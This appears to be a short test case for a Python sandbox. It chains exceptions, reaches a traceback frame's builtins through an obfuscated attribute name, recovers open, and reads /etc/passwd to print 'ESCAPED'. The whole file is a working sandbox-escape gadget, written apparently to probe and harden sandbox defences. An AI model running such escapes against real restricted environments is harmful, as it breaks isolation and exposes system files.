# tries: an attribute in the cause of a raise
# class: gadgets
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


class E(Exception):
    pass


def g():
    try:
        raise E
    except E as error:
        return error


try:
    raise ValueError from g().with_traceback(g().__traceback__)
except ValueError as error:
    use(pick(error.__cause__.__traceback__.tb_frame))
